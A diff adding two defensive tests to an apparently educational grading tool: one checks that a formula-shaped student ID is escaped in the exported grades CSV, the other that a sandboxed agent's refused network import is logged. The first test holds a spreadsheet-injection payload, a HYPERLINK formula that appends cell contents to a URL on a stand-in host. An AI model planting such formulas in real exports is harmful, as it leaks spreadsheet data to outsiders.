@@ -256,6 +256,33 @@ def test_csv_header_is_stable() -> None:
     assert list(CSV_FIELDS) == EXPECTED_HEADER
 
 
+def test_student_text_cannot_become_a_spreadsheet_formula(tmp_path: Path) -> None:
+    a = load_assignment(write_assignment(tmp_path))
+    subs = tmp_path / "submitted"
+    subs.mkdir()
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    EpisodeRecord(task_id="-2+3", student_id=evil).write(subs / "ep.json")
+    rows = grade_submissions(subs, a, sandbox=UnusableSandbox())
+    write_outputs(rows, a, tmp_path / "grades")
+    with (tmp_path / "grades" / "grades.csv").open() as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert not [c for c in cells if c and c[0] in "=+-@"], cells
+    assert f"'{evil}" in cells  # kept, readable, inert
+
+
+def test_any_action_leaves_a_trail_that_exports(tmp_path: Path, sandbox) -> None:
+    with WhipEnv(sandbox=sandbox) as env:
+        env.reset("task1")
+        res = env.step({"action_type": "execute_snippet", "code": object()})  # an agent's mistake
+        assert res.observation.error
+        env.step({"action_type": "execute_snippet", "code": "import requests"})  # refused
+        rec = env.export(tmp_path / "ep.json", student_id="ada")
+    back = load_episode(tmp_path / "ep.json")
+    assert back == rec and [t.turn for t in back.trail] == [1, 1]
+    assert back.trail[1].error and "requests" in back.trail[1].error
+    assert back.final_code is None and back.score is None and back.working_code
+
+
 def test_every_contradicted_claim_is_named(tmp_path: Path) -> None:
     from whipstudio_nb.course.collect import Submission
     from whipstudio_nb.course.grade import GradeRow, _claims
